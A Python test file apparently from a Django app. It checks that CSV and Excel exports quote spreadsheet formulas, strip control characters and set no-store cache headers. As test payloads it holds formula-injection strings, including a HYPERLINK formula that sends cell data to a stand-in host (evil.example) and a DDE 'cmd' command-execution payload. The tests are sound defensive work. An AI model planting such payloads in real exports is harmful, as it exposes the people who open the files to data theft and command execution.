"""What a user opens from the pages' exports (issue 16): no control character breaks a file,
no cell is a live formula (OWASP "CSV Injection"), and no export answer is kept in a cache."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pingan.accounts.models import User
from pingan.analytics.models import Briefing
from pingan.analytics.services import export_job_run
from pingan.api.tests.helpers import report
from pingan.core import audit, clock
from pingan.org.services import membership_grant, user_upsert
from pingan.privacy.models import ExportRequest
from pingan.privacy.services import export_request_decide

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",  # fullwidth equals
]


def csv_rows(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def no_store(response):
    assert "no-store" in response.get("Cache-Control", ""), response.get("Cache-Control")


@pytest.fixture
def auditor(cast):
    u = user_upsert(username="auditadmin", name="审计员", password=cast.password)
    membership_grant(user=u, role="audit_admin")
    return u


def test_event_csv_quotes_formulas_and_drops_control_characters(cast, client):
    for title in [*FORMULAS, "\x01=1+1", "-5", "邻里\x1b[31m纠纷\x7f\t制表"]:
        report(cast, title=title)
    report(cast, title="地址", reporter_name="=1+2", address="@SUM(1)海滨路18号")
    client.force_login(cast.dispatcher)
    rows = csv_rows(client.get("/events/export.csv"))
    titles = {row[1] for row in rows[1:]}
    expected = {"'" + t for t in [*FORMULAS, "=1+1"]} | {"-5", "邻里[31m纠纷\t制表", "地址"}
    assert titles == expected
    contact = next(row for row in rows[1:] if row[1] == "地址")
    assert contact[-3:-1] == ["'@SUM(1****", "'=***"]


def test_event_xlsx_on_the_page_writes_formulas_as_text(cast, client):
    report(cast, title='=HYPERLINK("http://evil.example")\x01')
    client.force_login(cast.dispatcher)
    r = client.get("/events/export.xlsx")
    assert r.status_code == 200
    no_store(r)
    cell = load_workbook(io.BytesIO(r.content)).active["B5"]
    assert (cell.value, cell.data_type) == ('\'=HYPERLINK("http://evil.example")', "s")


def test_audit_csv_quotes_a_username_typed_as_a_formula(cast, client, auditor):
    # Anyone may type a formula as the username of a failed sign-in.
    audit.record(action="login", username="=cmd|' /C calc'!A0\x1b", result="failed")
    client.force_login(auditor)
    r = client.get(reverse("audit_export"), {"action": "login"})
    rows = csv_rows(r)
    assert rows[1][0].isdigit()  # the sequence number stays a number
    assert rows[1][2] == "'=cmd|' /C calc'!A0"
    no_store(r)


def test_grid_scores_excel_quotes_formula_names_and_keeps_numbers(cast, client):
    User.objects.filter(pk=cast.gridworker.pk).update(name='=HYPERLINK("x")\x01')
    report(cast)
    client.force_login(cast.leader)
    month = clock.now().strftime("%Y-%m")
    r = client.get(f"/grid/scores/?month={month}&format=xlsx")
    assert r.status_code == 200
    no_store(r)
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = {row[2].value: row for row in ws.iter_rows(min_row=2)}
    assert set(rows) == {'\'=HYPERLINK("x")', "王网格"}
    row = rows['\'=HYPERLINK("x")']
    assert row[2].data_type == "s"
    assert row[-1].data_type == "n" and isinstance(row[-1].value, (int, float))


def test_page_exports_and_downloads_are_marked_no_store(cast, client, settings):
    report(cast)
    report(cast, point="point_a2", user=cast.gridleader)
    client.force_login(cast.dispatcher)
    r = client.get("/events/export.csv")
    assert r.status_code == 200
    no_store(r)
    # An approved download (CSV and Excel) and a background Excel job's file.
    settings.PINGAN_EXPORT_APPROVAL_ROWS = 0
    for fmt in ("", "xlsx"):
        client.force_login(cast.dispatcher)
        client.post("/exports/new/", {"reason": "周报", "format": fmt})
        req = ExportRequest.objects.order_by("-id").first()
        export_request_decide(user=cast.leader, request_id=req.pk, approve=True)
        r = client.get(f"/exports/{req.pk}/download/")
        assert r.status_code == 200
        no_store(r)
    settings.PINGAN_EXPORT_APPROVAL_ROWS = 500
    settings.PINGAN_EXPORT_SYNC_MAX = 1
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    client.force_login(cast.leader)
    r = client.get("/events/export.xlsx")
    assert r.status_code == 302
    job_page = client.get(r["Location"])
    no_store(job_page)
    job_id = int(r["Location"].rstrip("/").rsplit("/", 1)[-1])
    export_job_run(job_id=job_id)
    r = client.get(reverse("export_job_file", kwargs={"job_id": job_id}))
    assert r.status_code == 200
    no_store(r)
    # A briefing made and downloaded on the page, and again from the archive.
    r = client.get(reverse("briefings"), {"make": "docx", "region": cast.county.pk})
    assert r.status_code == 200
    no_store(r)
    briefing = Briefing.objects.get()
    r = client.get(reverse("briefing_file", kwargs={"briefing_id": briefing.pk}))
    assert r.status_code == 200
    no_store(r)
